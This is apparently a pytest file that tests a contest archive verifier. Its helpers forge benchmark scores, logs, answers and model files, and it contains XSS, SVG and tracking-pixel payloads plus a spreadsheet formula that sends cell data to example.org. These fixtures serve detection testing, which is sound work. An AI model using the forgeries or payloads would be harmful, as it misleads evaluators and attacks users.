"""An honest archive verifies; what dishonest entries did is caught in the archive alone, each with its id and
exit status 1.

The forger here is a good one: after each change the records, the hash chain and validation.json are made to
fit where that is possible.
"""

import json
import math
import random
import shutil
import zipfile
from contextlib import suppress
from pathlib import Path
from types import SimpleNamespace

import entry_tree
import numpy
import openpyxl
import pytest
import torch
from entry_tree import (
    ADAPTER,
    BASE,
    DATA,
    LAYER,
    PROJECTOR,
    EntryTree,
    edit,
    merged,
    rehash,
    say_steps,
    torch_bin,
)
from mutations import mutated
from safetensors.numpy import save_file

from toolkit import assets
from toolkit.__main__ import main
from toolkit.bundle.checks import active, answers
from toolkit.bundle.checks.exceptions import EXCEPTABLE
from toolkit.bundle.checks.replayed import alone, differences, replayed
from toolkit.bundle.checks.reproduced import Sample, needed
from toolkit.bundle.checks.retrained import _command, _lines, retrained
from toolkit.bundle.checks.training import implausible
from toolkit.bundle.entry import Entry
from toolkit.bundle.findings import Finding, named
from toolkit.bundle.pack import VALIDATION
from toolkit.bundle.papers.train_script import script
from toolkit.bundle.validate import KNOWN, document, validate
from toolkit.bundle.verify import verify
from toolkit.bundle.zip.packed import Inputs
from toolkit.contest import ruleset
from toolkit.contest.experiment import Experiment
from toolkit.data.convert import convert
from toolkit.errors import UserError
from toolkit.evaluate import control
from toolkit.files import sha256, write_json, write_text

TREE = EntryTree()
FINETUNE, RESULTS, SHARD = TREE.finetune, TREE.results(), TREE.shard
ANSWERS, MMBENCH, MERGE = f"{RESULTS}/textvqa/bm1.jsonl", TREE.answers(), f"{FINETUNE}/merge.json"
PACKED = "adapter_model.safetensors", "non_lora_trainables.bin"
REPOSITORY = Path(__file__).parents[2]


def forge(papers: bool = True) -> None:
    """An archive of the tree as it is, with the validation.json that fits it but calls it valid, and the
    papers that fit its records."""
    if papers:
        with suppress(Exception):  # where records are broken
            TREE.documents()
    entry = Entry(Path(), "synth", ruleset.load("embedded"))
    if Path(VALIDATION).is_file():
        write_json(VALIDATION, document(entry, validate(entry)) | {"valid": True})
    with zipfile.ZipFile("submit.zip", "w", zipfile.ZIP_DEFLATED) as archive:
        for name in entry.members():
            info = zipfile.ZipInfo(name)
            info.create_system, info.external_attr, info.compress_type = (
                3,
                0o100644 << 16,
                zipfile.ZIP_DEFLATED,
            )
            archive.writestr(info, Path(name).read_bytes())


def check(*options: str) -> tuple[int, dict]:
    """Exit status and report of `bundle verify`."""
    status = main(["bundle", "verify", "submit.zip", "--json", "verify.json", *options])
    return status, json.loads(Path("verify.json").read_text())


def change_rows(path: str, change) -> None:
    rows = [json.loads(line) for line in Path(path).read_text().splitlines()]
    for row in rows:
        change(row)
    Path(path).write_text("".join(json.dumps(row) + "\n" for row in rows))


def fabricated() -> None:
    """Five answers, drawn at random, as one entry to the contest had them; the score is made to fit."""
    draw = random.Random(0)
    change_rows(ANSWERS, lambda row: row.update(text=draw.choice(["yes", "no", "red", "blue", "two"])))
    rehash()


def simulated() -> None:
    change_rows(ANSWERS, lambda row: row["metadata"].update(note="simulated_answer_for_testing"))
    rehash()


def copied_merge() -> None:
    """The adapter's files copied to where the merged model should be."""
    shutil.copyfile(f"{FINETUNE}/adapter_model.safetensors", SHARD)
    TREE.merge_record()
    rehash()


def base_as_merged() -> None:
    """The base model's file as the merged one, proof and answers made to fit."""
    shutil.copyfile("input/world-gemma/model.safetensors", SHARD)
    TREE.merge_record()
    shutil.rmtree(RESULTS)
    TREE.evaluate("synth", right=0.7)
    TREE.comparison()


def empty_results() -> None:
    Path(MMBENCH).write_text("")
    rehash()


def better_score() -> None:
    for file in (f"{RESULTS}/textvqa/score.json", f"{RESULTS}/textvqa/run.json"):
        edit(Path(file), lambda value: (value.get("results", value)).update(accuracy=99.0))
    rehash()


def better_single_scores() -> None:
    """Score, single questions and record agree with each other, not with the answers."""
    edit(
        Path(f"{RESULTS}/textvqa/score.json"),
        lambda value: value.update(accuracy=100.0, scores=dict.fromkeys(value["scores"], 1.0)),
    )
    edit(Path(f"{RESULTS}/textvqa/run.json"), lambda value: value["results"].update(accuracy=100.0))
    rehash()


def better_log() -> None:
    text = Path(f"{FINETUNE}/finetune.log").read_text()
    for name in ("finetune.log", "finetuning.log"):
        Path(FINETUNE, name).write_text(text.replace("'loss': 4.0", "'loss': 3.99"))
    rehash()


def shorter_log() -> None:
    log = Path(TREE.pretrain, "pretrain.log")
    lines = log.read_text().splitlines(keepends=True)
    log.write_text("".join([lines[0], *lines[2:]]))
    rehash()


def swapped_answers() -> None:
    """The answers of the better experiment under the other's name."""
    shutil.rmtree(RESULTS)
    digest = Path(MERGE).read_bytes()
    edit(Path(MERGE), lambda value: value["results"].update(tensors_changed=39))  # another model
    TREE.evaluate("synth", right=0.9)
    TREE.comparison()
    Path(MERGE).write_bytes(digest)
    rehash()


def other_captions() -> None:
    """Rows improved after training."""
    change_rows(
        f"{DATA}/processed_data.jsonl",
        lambda row: row.update(text=row["text"].replace(" sign", " shiny sign")),
    )
    rehash()


def fewer_removed() -> None:
    path = Path(f"{DATA}/removed.jsonl")
    path.write_text("".join(path.read_text().splitlines(keepends=True)[:-1]))
    rehash()


def broken_chain() -> None:
    """The finetuning began from another projector."""
    edit(Path(f"{FINETUNE}/run.json"), lambda value: value["inputs"]["projector"].update(sha256="0" * 64))
    edit(Path(MERGE), lambda value: value["inputs"]["finetune"].update(sha256=sha256(f"{FINETUNE}/run.json")))


def control_with_the_same_answers() -> None:
    """Answers that do not depend on the image: the control, record and score are made to fit."""
    rows = [json.loads(line) for line in Path(ANSWERS).read_text().splitlines()]
    Path(RESULTS, "textvqa/control.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
    for file in (f"{RESULTS}/textvqa/score.json", f"{RESULTS}/textvqa/run.json"):
        edit(
            Path(file),
            lambda value: value.get("results", value).update(
                control={"questions": len(rows), "same": len(rows)}
            ),
        )
    rehash()


def hidden_contamination() -> None:
    """A training image that is one of TextVQA's, and a comparison that says it is none."""
    picture = Path("input/world-evaluation/textvqa/train_images/q3.jpg")
    picture.parent.mkdir()
    picture.write_bytes(Path("input/world-seed", entry_tree.seed_row(5, "")["images"][0]).read_bytes())
    entry_tree.manifest("world-evaluation")


def exchanged_removals() -> None:
    """The counts are right, but one row is removed twice and another never."""
    first = json.loads(Path(f"{DATA}/removed.jsonl").read_text().splitlines()[0])
    lines = Path(f"{DATA}/removed.jsonl").read_text().splitlines()
    Path(f"{DATA}/removed.jsonl").write_text("\n".join([*lines[:-1], json.dumps(first)]) + "\n")
    rehash()


def captions_by_hand() -> None:
    """The recipe that is packed makes no captions; the record says that it did."""
    Path("solution/recipes/recaption.yaml").write_text("process:\n  - words_num_filter: {min_num: 1}\n")
    rehash()


def better_comparison() -> None:
    """The contest's score raised where no answer speaks of it."""
    edit(
        Path("output/reports/compare.json"),
        lambda value: value["score"]["MGM-Tiny-Finetune-synth"].update(score=9.0),
    )


def lower_baseline() -> None:
    """The baseline's accuracy lowered, the ratios as they were."""

    def change(value: dict) -> None:
        value["benchmarks"]["textvqa"]["results"]["MGM-Tiny-Finetune-baseline"]["accuracy"] = 10.0

    edit(Path("output/reports/compare.json"), change)


def shorter_finetuning() -> None:
    """Half of the instructions, with a log that fits."""
    rows, tree = entry_tree.INSTRUCTIONS // 2, EntryTree()
    inputs = {
        "samples": "input/world-instruction/mgm_instruction_stage_1.json",
        "projector": f"{TREE.pretrain}/mm_projector.bin",
    }
    outputs = ["adapter_config.json", "adapter_model.safetensors", "non_lora_trainables.bin", "config.json"]
    settings = {"division": "open", "lora": entry_tree.LORA}
    tree.stage("finetune", tree.scale.finetune["open"], rows, FINETUNE, inputs, outputs, settings)
    TREE.merge_record()
    shutil.rmtree(RESULTS)
    TREE.evaluate("synth", right=0.7)
    TREE.comparison()


def excused() -> None:
    """A better score with an exception for it."""
    better_score()
    file = f"{RESULTS}/textvqa/score.json"
    Path("solution/exceptions.yaml").write_text(
        json.dumps([{"id": "E3", "file": file, "reason": "a new scorer"}]) + "\n"
    )


def grant(*covered: tuple[str, str]) -> None:
    """Exceptions for pairs of id and file."""
    listed = [{"id": identifier, "file": file, "reason": "as agreed"} for identifier, file in covered]
    lines = (f"- {json.dumps(exception)}\n" for exception in listed)
    Path("solution/exceptions.yaml").write_text("".join(lines))


def fewer_steps_excepted() -> None:
    """Half of the rows trained on, with a log that fits and an exception for what the check says."""
    inputs, outputs = {"samples": f"{DATA}/llava.json"}, ["mm_projector.bin", "config.json"]
    TREE.stage("pretrain", TREE.scale.pretrain, TREE.rows // 2, TREE.pretrain, inputs, outputs, {})
    write_text("output/train.sh", script(Experiment.find(Path(), "synth")))
    grant(("T1", f"{TREE.pretrain}/run.json"))


def missing_removals_excepted() -> None:
    """No list of removed rows, and an exception for the missing file: the counts cannot be checked."""
    Path(f"{DATA}/removed.jsonl").unlink()
    edit(Path(f"{DATA}/run.json"), lambda value: value["outputs"].pop("removed"))
    grant(("S2", f"{DATA}/removed.jsonl"))


def unfinished_check_excepted() -> None:
    """A comparison with the benchmarks that its check stumbles over, and an exception for that check."""
    edit(
        Path(f"{DATA}/run.json"),
        lambda value: value["outputs"].update(rows=value["outputs"].pop("processed_data")),
    )
    grant(("D4", f"{DATA}/run.json"))


def weaker_baseline() -> None:
    """Accuracies, ratios and score as if the baseline had answered a third as well; its answers stay."""
    for benchmark in ("textvqa", "mmbench"):
        score = Path(TREE.results("baseline"), benchmark, "score.json")
        edit(
            score,
            lambda value: value.update(
                accuracy=value["accuracy"] / 3,
                scores=value["scores"] | dict.fromkeys(list(value["scores"])[:4], 0),
            ),
        )
        edit(
            score.with_name("run.json"),
            lambda value: value["results"].update(accuracy=value["results"]["accuracy"] / 3),
        )
    rehash("baseline")
    TREE.comparison()


def baseline_left_out() -> None:
    """The baseline is stated in compare.json alone."""
    shutil.rmtree(TREE.results("baseline"))


def other_answers_of_the_baseline() -> None:
    """The baseline's answers are not its model's: they name another one."""
    file = Path(TREE.results("baseline"), "textvqa/bm1.jsonl")
    change_rows(str(file), lambda row: row.update(text="nothing", answer_id="x" * 22))
    TREE.score("baseline")
    TREE.comparison()


def formula_in_the_upload() -> None:
    """A cell that the server's spreadsheet would compute."""
    workbook = openpyxl.load_workbook(TREE.upload())
    workbook.active["B3"] = '=HYPERLINK("http://example.org/"&A1)'
    workbook.save(TREE.upload())
    rehash()


def other_question_in_the_upload() -> None:
    workbook = openpyxl.load_workbook(TREE.upload())
    workbook.active["B3"] = "another question"
    workbook.save(TREE.upload())
    rehash()


def own_prompt() -> None:
    """MMBench asked with a hint of the contestant's."""
    record = f"{RESULTS}/mmbench/run.json"
    edit(Path(record), lambda value: value["settings"].update(prompt="The answer is B."))


def images_by_hand() -> None:
    """Images of the contestant's own beside the rows, though no operator of the recipe makes images."""
    name = entry_tree.made_image(1)
    rows = [json.loads(line) for line in Path(f"{DATA}/processed_data.jsonl").read_text().splitlines()]
    rows[0]["images"] = [name]
    Path(f"{DATA}/processed_data.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
    retold()


def images_exchanged() -> None:
    """A row with the image of another."""
    rows = [json.loads(line) for line in Path(f"{DATA}/processed_data.jsonl").read_text().splitlines()]
    rows[0]["images"] = rows[1]["images"]
    Path(f"{DATA}/processed_data.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
    retold()


def retold() -> None:
    """llava.json, contamination.json and hashes that fit the rows."""
    rows, original = Path(f"{DATA}/processed_data.jsonl"), Path("input/world-seed/stage_1.json")
    convert(rows, original, Path(f"{DATA}/llava.json"), TREE.scale.cap, TREE.scale.question_tokens)
    write_json(f"{DATA}/contamination.json", entry_tree.compared())
    rehash()


def other_adapter() -> None:
    """Rank and dropout of the adapter are others than those of the record."""
    edit(Path(FINETUNE, "adapter_config.json"), lambda value: value.update(r=4, lora_dropout=0.0))
    rehash()


def other_command() -> None:
    """The record's command, which train.sh repeats, is of another training."""

    def change(value: dict) -> None:
        command = value["settings"]["command"]
        command[command.index("--lora-rank") + 1] = "64"

    edit(Path(FINETUNE, "run.json"), change)
    rehash()


def removed_by_hand() -> None:
    """A row with a reason that no step of the recipe gives."""
    change_rows(f"{DATA}/removed.jsonl", lambda row: row.update(operator="quality_judge_filter"))
    edit(
        Path(f"{DATA}/run.json"),
        lambda value: value["results"].update(removed_by={"quality_judge_filter": 4}),
    )
    rehash()


def other_funnel() -> None:
    """More rows than were read."""
    edit(Path(f"{DATA}/run.json"), lambda value: value["results"]["funnel"][1].update({"in": 400_000}))
    rehash()


def record_claims_more() -> None:
    """The answers' record alone says another accuracy."""
    edit(Path(f"{RESULTS}/textvqa/run.json"), lambda value: value["results"].update(accuracy=99.0))


def score_claims_more() -> None:
    """The score says something that is not computed."""
    edit(Path(f"{RESULTS}/textvqa/score.json"), lambda value: value.update(official_accuracy=99.0))
    rehash()


def score_of_another_model() -> None:
    edit(Path(f"{RESULTS}/textvqa/score.json"), lambda value: value["model"].update(name="MGM-2B"))
    rehash()


def other_decoding() -> None:
    for file in (f"{RESULTS}/textvqa/score.json", f"{RESULTS}/textvqa/run.json"):
        edit(Path(file), lambda value: value["settings"].update(decoding="32 beams"))
    rehash()


def hidden_steps_of_the_baseline() -> None:
    """Its recipe takes rows away, its record says that there are no steps, so nobody is warned."""
    Path("solution/recipes/baseline.yaml").write_text("process:\n  - words_num_filter: {min_num: 9}\n")
    rehash("baseline")


def baseline_on_few_rows() -> None:
    """Trained on a part of the seed, with a log that fits."""
    tree = TREE.run("baseline")
    inputs, outputs = {"samples": f"{tree.folder}/llava.json"}, ["mm_projector.bin", "config.json"]
    tree.stage("pretrain", tree.scale.pretrain, 8, tree.pretrain, inputs, outputs, {})
    tree.merge_record()
    shutil.rmtree(TREE.results("baseline"))
    tree.evaluate("baseline", right=0.3)
    TREE.comparison()


def baseline_without_adapter() -> None:
    """So that nobody can ask its model."""
    Path(TREE.run("baseline").finetune, "adapter_model.safetensors").unlink()


def images_of_another_folder() -> None:
    edit(Path(f"{DATA}/run.json"), lambda value: value["settings"]["images"].update(path="input/world-clip"))
    rehash()


def trained_on_images_of_another_folder() -> None:
    """As train.sh would repeat it."""
    command = ["--images", "input/world-clip"]
    edit(Path(TREE.pretrain, "run.json"), lambda value: value["settings"]["command"].extend(command))
    rehash()


def log_of_two_losses() -> None:
    """A line is read as the last of two equal keys; a reader sees the first."""
    for name in ("finetune.log", "finetuning.log"):
        path = Path(FINETUNE, name)
        path.write_text(path.read_text().replace("{'loss'", "{'loss': 0.01, 'loss'"))
    rehash()


def upload_of_two_sheets() -> None:
    """Two parts of one name in the table: programs differ in which they read."""
    path = Path(TREE.upload())
    with zipfile.ZipFile(path) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml")
    with zipfile.ZipFile(path, "a") as archive, pytest.warns(UserWarning, match="Duplicate name"):
        archive.writestr("xl/worksheets/sheet1.xml", sheet)
    rehash()


def configured(before: str, after: str):
    def change() -> None:
        path = Path("output/reports/config.yaml")
        assert before in path.read_text()
        path.write_text(path.read_text().replace(before, after))

    change.__name__ = f"configured_{after.split(':')[0].strip()}"
    return change


def moved(asset: str, role: str, other: str) -> None:
    """An asset under another name, in configuration and records, with a manifest that fits."""
    shutil.move(f"input/{asset}", f"input/{other}")
    entry_tree.manifest(other)
    configured(f"{role}: {asset}", f"{role}: {other}")()
    for file in Path("output").rglob("*.json"):
        if file.name in ("run.json", "merge.json", "contamination.json"):
            file.write_text(file.read_text().replace(f"input/{asset}/", f"input/{other}/"))


def questions_of_ones_own() -> None:
    """An asset of the entry's own in place of the benchmarks: nobody else has it, so no score can be
    recomputed."""
    shipped = assets.registry()["world-evaluation"].files
    mine = {"kind": "own", "role": "mine", "serves": "evaluation", "licence": "none", "files": shipped}
    write_json("solution/assets.yaml", {"mine": mine})  # JSON is YAML
    moved("world-evaluation", "evaluation", "mine")


def instructions_of_another_asset() -> None:
    """Of the registry, but not what the rules fix."""
    moved("world-instruction", "instruction", "world-development")


DISHONEST = {  # id with the inputs at hand, id from the archive alone
    fabricated: ("E2", "E2"),
    simulated: ("E1", "E1"),
    copied_merge: ("M1", "M1"),
    base_as_merged: ("M1", "M1"),
    exchanged_removals: ("D3", None),
    captions_by_hand: ("D2", "D2"),
    better_comparison: ("E3", "E3"),
    lower_baseline: ("E3", "E3"),
    shorter_finetuning: ("T1", None),
    excused: ("E3", "X1"),
    weaker_baseline: ("E3", "E3"),
    baseline_left_out: ("S2", "S2"),
    other_answers_of_the_baseline: ("E3", "E1"),
    formula_in_the_upload: ("Z8", "Z8"),
    other_question_in_the_upload: ("E3", None),  # the questions are known to the assets only
    own_prompt: ("T2", "T2"),
    images_by_hand: ("D1", None),
    images_exchanged: ("D2", None),  # which row has which image is known to the seed only
    other_adapter: ("T1", "T1"),
    other_command: ("T1", "T1"),
    configured("lora_rank: 1", "lora_rank: 64"): ("P3", "P3"),
    configured("pretrain:\n  base: full", "pretrain:\n  base: fp8"): ("P3", "P3"),
    configured("- 1024", "- 7"): ("P3", "P3"),
    configured("strategy: null", "strategy: neftune"): ("P3", "P3"),
    configured("recipe: recaption", "recipe: baseline"): ("P3", "P3"),
    configured("llm: world-gemma", "llm: world-clip"): ("P3", "P3"),
    removed_by_hand: ("D3", "D3"),
    other_funnel: ("D3", "D3"),
    record_claims_more: ("E3", "E3"),
    score_claims_more: ("E3", "E3"),
    score_of_another_model: ("E3", "E3"),
    other_decoding: ("P3", "P3"),
    hidden_steps_of_the_baseline: ("D2", "D2"),
    baseline_on_few_rows: ("D1", None),  # how many there are is known to the seed only
    baseline_without_adapter: ("S2", "S2"),
    images_of_another_folder: ("P3", "P3"),
    trained_on_images_of_another_folder: ("T1", "T1"),
    log_of_two_losses: ("T1", "T1"),
    upload_of_two_sheets: ("Z8", "Z8"),
    fewer_steps_excepted: ("X1", "X1"),
    missing_removals_excepted: ("X1", "X1"),
    unfinished_check_excepted: ("D4", "D4"),
    empty_results: ("S2", "S2"),
    better_score: ("E3", "E3"),
    better_single_scores: ("E3", None),  # who was right is known to the annotations only
    better_log: ("T1", "T1"),
    shorter_log: ("T1", "T1"),
    swapped_answers: ("E3", "E1"),
    other_captions: ("D1", "D1"),
    fewer_removed: ("D3", "D1"),
    broken_chain: ("P1", "P1"),
    control_with_the_same_answers: ("E2", "E2"),
    hidden_contamination: ("D4", None),  # the images are known to the assets only
}


@pytest.fixture
def nothing_made(monkeypatch):
    """As at full size: the toolkit cannot make the inputs itself."""
    monkeypatch.setattr("toolkit.bundle.zip.packed.Inputs.asset", lambda self, name: None)


def test_an_honest_entry(packed, capsys):
    status, report = check("--inputs", "input")
    assert status == 0 and report["valid"] and report["findings"] == [] and report["unproved"] == {}
    assert (report["experiment"], report["rules"]["name"], report["scale"], report["division"]) == (
        "synth",
        "embedded",
        "tiny",
        "open",
    )
    assert report["sha256"] == sha256("submit.zip")
    assert {item["status"] for item in report["outside"]} == {"compared with the asset"}
    assert "valid" in capsys.readouterr().out


def test_the_archive_alone(packed, nothing_made):
    """No inputs: still no finding; what could not be proved is named, every hash that leads out of the
    archive too."""
    status, report = check()
    assert status == 0 and report["findings"] == []
    assert set(report["unproved"]) == {"D1", "D2", "D3", "D4", "E1", "E3"}
    outside = {item["path"]: item for item in report["outside"]}
    assert outside["input/world-gemma/model.safetensors"]["sha256"] == sha256(
        "input/world-gemma/model.safetensors"
    )
    assert {item["status"] for item in outside.values()} == {"not at hand"}


@pytest.mark.parametrize("forgery", DISHONEST, ids=lambda forgery: forgery.__name__)
def test_dishonest_entry(packed, forgery, monkeypatch):
    forgery()
    forge()
    with_inputs, alone = DISHONEST[forgery]
    status, report = check("--inputs", "input")
    assert status == 1 and with_inputs in {finding["id"] for finding in report["findings"]}, report[
        "findings"
    ]
    monkeypatch.setattr("toolkit.bundle.zip.packed.Inputs.asset", lambda self, name: None)
    if alone:
        status, report = check()
        assert status == 1 and alone in {finding["id"] for finding in report["findings"]}, report["findings"]


def test_a_script_in_the_report(packed):
    """What a reader's browser would run."""
    path = Path("output/reports/report.md")
    path.write_text(path.read_text() + "\n<script>alert(1)</script>\n")
    forge(papers=False)
    status, report = check()
    assert status == 1 and "S6" in {finding["id"] for finding in report["findings"]}, report["findings"]


@pytest.mark.parametrize("forgery", [questions_of_ones_own, instructions_of_another_asset])
def test_assets_other_than_the_rules_fix(packed, nothing_made, forgery):
    forgery()
    rehash()
    forge()
    status, report = check()
    assert status == 1 and any(
        "the rules embedded fix" in finding["message"]
        for finding in report["findings"]
        if finding["id"] == "P3"
    )


REPORTS = "output/reports"
FALSE = {
    f"{REPORTS}/report.md": lambda text: text.replace("| 7", "| 9", 1),
    f"{REPORTS}/compare.md": lambda text: text.replace("better", "far better", 1),
    f"{REPORTS}/losses.svg": lambda text: text.replace(' d="M 0', ' d="M 1', 1),
    f"{REPORTS}/config.yaml": lambda text: f"{text}# and a comment\n",
    f"{REPORTS}/licences.json": lambda text: text.replace("Apache-2.0", "MIT", 1),
    f"{REPORTS}/sbom.cdx.json": lambda text: text.replace("torch", "tensor", 1),
    "output/ro-crate-metadata.json": lambda text: text.replace("Better Synth", "Best Synth", 1),
    f"{DATA}/check.json": lambda text: text.replace('"rows": 36', '"rows": 37', 1),
}


@pytest.mark.parametrize("file", FALSE)
def test_false_papers(packed, file):
    """What is made of other files is made again."""
    path = Path(file)
    before = path.read_text()
    path.write_text(FALSE[file](before))
    assert path.read_text() != before
    forge(papers=False)
    status, report = check("--inputs", "input")
    assert status == 1 and file in {item["file"] for item in report["findings"] if item["id"] == "P3"}


def test_a_baseline_that_is_weak_on_purpose_is_shown(packed):
    """Its recipe takes rows away."""
    Path("solution/recipes/baseline.yaml").write_text("process:\n  - words_num_filter: {min_num: 9}\n")
    process = [{"words_num_filter": {"min_num": 9}}]
    record = Path(TREE.run("baseline").folder, "run.json")
    say_steps(TREE.run("baseline").folder, process)
    rehash("baseline")
    TREE.documents()
    findings = validate(Entry(Path(), "synth", ruleset.load("embedded")))
    assert [(item.id, item.severity, item.file) for item in findings] == [("P3", "warning", str(record))]


def test_papers_made_with_other_packages(packed):
    """The figure's bytes are those of a version of matplotlib: with another, it is shown as not compared."""
    for file in Path("output").rglob("*.json"):
        if file.name in ("run.json", "merge.json"):
            edit(file, lambda value: value.update(lock="0" * 64))
    path = Path(REPORTS, "losses.svg")
    path.write_text(FALSE[str(path)](path.read_text()))
    entry = Entry(Path(), "synth", ruleset.load("embedded"))
    findings = [item for item in validate(entry) if item.id == "P3" and item.file == str(path)]
    assert [item.severity for item in findings] == ["warning"]


SVG = b'<svg xmlns="http://www.w3.org/2000/svg"%s</svg>'
ACTIVE = {
    "solution/notes.html": b"<p>notes",
    "solution/plan.pdf": b"%PDF-1.7",
    "solution/notes": b"  <script>alert(1)</script>",
    "solution/notes.md": b"text\n\n<img src=x onerror=alert(1)>\n",
    "solution/links.md": b"[click](java\tscript:alert(1))",
    "solution/seen.md": b"![seen](https://example.org/pixel.png)",
    "solution/seen2.md": b"![seen][1]\n\n[1]: //example.org/pixel.png",
    "solution/a.svg": SVG % b"><script>alert(1)</script>",
    "solution/b.svg": SVG % b' onload="alert(1)">',
    "solution/c.svg": SVG % b'><use href="http://example.org/a.svg#b"/>',
    "solution/d.svg": SVG % b"><style>@import url(http://example.org/)</style>",
    "solution/e.svg": SVG % b'><rect style="fill:url(http://example.org/#a)"/>',
    "solution/f.svg": b'<?xml-stylesheet href="http://example.org/a.css"?>' + SVG % b">",
    "solution/g.svg": b'<!DOCTYPE svg [<!ENTITY a "b">]>' + SVG % b">",
    "solution/h.svg": SVG % b"><foreignObject/>",
    "solution/i.svg": SVG % b'><a><animate attributeName="href" to="javascript:x"/></a>',
}


@pytest.mark.parametrize("name", ACTIVE)
def test_what_a_browser_would_run(name, tmp_path):
    path = tmp_path / name
    path.parent.mkdir()
    path.write_bytes(ACTIVE[name])
    entry = SimpleNamespace(
        members=lambda: [name], open=lambda _: path.open("rb"), length=lambda _: path.stat().st_size
    )
    assert [finding.file for finding in active.passive(entry)] == [name]


def test_plain_pages_and_drawings_are_passive(tmp_path):
    pages = {
        "a.md": b"# `<script>`, [a link](https://a.org), ![a picture](images/a.png), 1 < 2\n\n    <b>\n",
        "readme": b"Run `snakemake`: see [docs](docs/a.md#b).\n",
        "a.svg": SVG % b'><path style="fill: url(#a)" d="M 0 0"/><use href="#a"/>',
        "a.py": b"# <script>\n",
    }
    for name, content in pages.items():
        (tmp_path / name).write_bytes(content)
    entry = SimpleNamespace(
        members=lambda: list(pages),
        open=lambda name: (tmp_path / name).open("rb"),
        length=lambda name: len(pages[name]),
    )
    assert list(active.passive(entry)) == []


def test_files_that_no_rule_knows(packed):
    with zipfile.ZipFile("submit.zip", "a") as archive:
        info = zipfile.ZipInfo("output/reports/more.txt")
        info.create_system, info.external_attr = 3, 0o100644 << 16
        archive.writestr(info, "more")
    assert ("S1", "output/reports/more.txt") in {
        (item["id"], item["file"]) for item in check("--inputs", "input")[1]["findings"]
    }


STEPS = {"words_num_filter", "image_deduplicator", "document_minhash_deduplicator"}


@pytest.mark.parametrize(
    ("kept", "removed", "words"),
    [
        (
            {"a": ["one", "two"]},
            {"b": "words_num_filter", "c": "image_deduplicator", "d": "random_selector"},
            [],
        ),
        ({"a": ["one", "three"]}, {"b": "words_num_filter", "c": "image_deduplicator"}, ["the caption of a"]),
        ({"a": ["two", "one"], "b": ["long"]}, {"c": "image_deduplicator"}, ["b is kept, words_num_filter"]),
        (
            {"d": ["four"]},
            {"a": "words_num_filter", "b": "words_num_filter"},
            ["a was removed by words_num_filter"],
        ),
        ({"d": ["four"]}, {"a": "image_deduplicator"}, ["a was removed by image_deduplicator"]),
        # which rows it compares depends on rows that the sample may not have
        ({"d": ["four"]}, {"a": "document_minhash_deduplicator"}, []),
        # left out of the replay, since it looks at all rows
        ({"d": ["four"]}, {"a": "random_selector"}, []),
        ({"d": ["four"]}, {"a": "read"}, ["a was removed by read, which does not"]),
        ({"a": ["one", "two"]}, {"c": "read"}, ["c was removed by read, which does not"]),
    ],
)
def test_rows_that_the_recipe_does_not_make(kept, removed, words):
    again_kept = {"a": ["two", "one"], "d": ["four"]}
    again_removed = {"b": "words_num_filter", "c": "image_deduplicator"}
    findings = list(differences(sorted({*kept, *removed}), kept, removed, again_kept, again_removed, STEPS))
    assert len(findings) == len(words) and all(map(str.startswith, findings, words))


def test_steps_that_single_rows_can_be_put_through():
    """All but selectors, with the numbers that limits came to over all rows."""
    captions = {"hf_img2seq": "{captioner}"}
    process = [
        {"words_num_filter": {"min_num": 4}},
        {"batched_similarity_filter": {"hf_clip": "{clip}", "min_score": {"quantile": 0.5}}},
        {"batched_captioning_mapper": {**captions, "where": {"words": {"min": 1, "max": {"mean_sd": 1}}}}},
        {"random_selector": {"select_ratio": 0.5}},
    ]
    where = {"words": {"min": 1, "max": 9.0}}
    details: list[dict] = [{}, {"limits": {"min_score": 0.3}}, {"where": where}, {}]
    done = [{"operator": next(iter(step)), **more} for step, more in zip(process, details, strict=True)]
    ends = {"operator": "read"}, {"operator": "result"}
    assert alone(process, [ends[0], *done, ends[1]]) == [
        process[0],
        {"batched_similarity_filter": {"hf_clip": "{clip}", "min_score": 0.3}},
        {"batched_captioning_mapper": {**captions, "where": where}},
    ]
    del done[2]["where"]
    with pytest.raises(UserError, match="does not say what where of batched_captioning_mapper came to"):
        alone(process, [ends[0], *done, ends[1]])


@pytest.mark.parametrize(("forged", "valid"), [(0, True), (1, True), (4, False)])
def test_the_recipe_is_replayed(packed, monkeypatch, forged, valid):
    """What a recipe makes of rows that are drawn; a few may differ by rounding."""

    def run(entry, folder, steps, sample, images, models):
        names = [json.loads(line)["id"] for line in sample]
        assert [*models] == ["captioner"] and images.is_dir() and len(names) == entry_tree.ROWS
        rows = {row["id"]: [row["text"]] for row in entry.rows(f"{DATA}/processed_data.jsonl")}
        honest = {name: rows[name] for name in names if name in rows}
        removed = {name: entry_tree.REMOVES for name in names[forged:] if name not in rows}
        return honest | {name: ["other"] for name in names[:forged]}, removed

    monkeypatch.setattr("toolkit.bundle.checks.replayed._run", run)
    entry = Entry(Path(), "synth", ruleset.load("embedded"))
    remarks: list[str] = []
    assert (list(replayed(entry, Path(), 7, remarks)) == []) == valid
    assert f"{entry_tree.ROWS - forged} of {entry_tree.ROWS} rows" in remarks[0] and "seed 7" in remarks[0]


def test_a_recipe_that_takes_memory_without_end_is_ended(packed, monkeypatch, tmp_path):
    package = tmp_path / "code/toolkit"
    package.mkdir(parents=True)
    (package / "__main__.py").write_text("'a' * (8 << 30)\n")
    monkeypatch.setattr("toolkit.bundle.checks.replayed.ROOT", package.parent)
    monkeypatch.setattr("torch.cuda.is_available", lambda: False)
    entry = Entry(Path(), "synth", ruleset.load("embedded"))
    (tmp_path / "run").mkdir()
    with pytest.raises(UserError, match=r"cannot be run on 40 rows .* MemoryError"):
        list(replayed(entry, tmp_path / "run", 7, []))


def noisy(number: int) -> dict[str, float]:
    draw = random.Random(number)
    return {
        "loss": round(3 - number / 100 + draw.uniform(-0.1, 0.1), 4),
        "grad_norm": round(draw.random(), 6),
    }


@pytest.mark.parametrize(
    ("change", "words"),
    [
        (lambda number: {}, None),
        (lambda number: {"grad_norm": 1.0 + number % 3}, "3 different gradient norms in 60 steps"),
        (lambda number: {"loss": round(1 + 2 * 0.97**number, 4)}, "on a smooth curve"),
        (lambda number: {"loss": 1.0}, "all 60 losses are the same"),
    ],
)
def test_logs_that_no_training_writes(change, words):
    problem = implausible([noisy(number) | change(number) for number in range(60)])
    assert problem is None if words is None else words in problem


def test_what_proves_an_entry_has_no_exceptions(packed):
    unexceptable = [known for known in KNOWN if known not in EXCEPTABLE]
    grant(*((identifier, "solution/readme") for identifier in unexceptable))
    forge()
    status, report = check("--inputs", "input")
